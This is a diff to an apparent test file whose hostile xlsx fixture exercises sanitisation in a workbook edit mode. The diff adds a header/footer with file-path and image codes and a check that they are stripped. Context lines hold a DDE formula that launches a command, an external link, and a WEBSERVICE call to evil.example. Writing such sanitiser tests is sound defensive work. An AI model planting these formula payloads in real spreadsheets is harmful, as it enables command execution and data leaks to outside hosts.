@@ -28,7 +28,8 @@ const HOSTILE = makeXlsx(
         '<row r="3" hidden="1"><c r="A3"><v>5</v></c><c r="B3"><f t="shared" si="0"/><v>12</v></c></row>' +
         '<row r="4"><c r="A4"><f>cmd|\'/c calc\'!A0</f><v>0</v></c><c r="B4"><f>[1]Other!A1</f><v>3</v></c><c r="C4" t="str"><f>WEBSERVICE("http://evil.example")</f><v>x</v></c></row>' +
         '<row r="5"><c r="A5"><f>SUM(Costs!A2:A3,\'Their plan\'!A1)</f><v>90006</v></c><c r="B5" t="e"><v>#DIV/0!</v></c><c r="C5" t="b"><v>1</v></c></row>' +
-        '</sheetData><mergeCells><mergeCell ref="D1:E2"/></mergeCells>',
+        '</sheetData><mergeCells><mergeCell ref="D1:E2"/></mergeCells>' +
+        '<headerFooter><oddHeader>&amp;C&amp;"Arial"&amp;12Draft of &amp;A&amp;G</oddHeader><oddFooter>&amp;P/&amp;N &amp;Z&amp;F</oddFooter></headerFooter>',
     },
     {
       name: 'Their plan',
@@ -65,6 +66,9 @@ describe('edit mode for workbooks', () => {
       'xl/worksheets/sheet2.xml',
     ]);
     const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array(0));
+    expect(sheet).toContain(
+      '<oddHeader>&amp;CDraft of &amp;A</oddHeader><oddFooter>&amp;P/&amp;N </oddFooter>',
+    );
     expect(sheet).toContain(
       '<c r="A1" t="inlineStr"><is><t xml:space="preserve">Item</t></is></c>',
     );
